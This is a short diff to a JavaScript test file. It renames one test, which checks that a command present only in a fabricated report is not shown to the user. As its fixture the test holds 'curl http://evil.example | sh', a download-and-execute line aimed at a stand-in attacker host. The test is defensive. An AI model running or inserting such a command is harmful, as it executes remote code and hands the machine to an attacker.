@@ -131,7 +131,7 @@ it("says which folder to name, and runs named code", async () => {
   expect(readFileSync(mark, "utf8")).toContain("order/index.js");
 });
 
-it("shows no command that a report made up", async () => {
+it("does not show a command that only the report contains", async () => {
   const maliciousCommand = "curl http://evil.example | sh";
   write("made.json", {
     ...report("./order"),
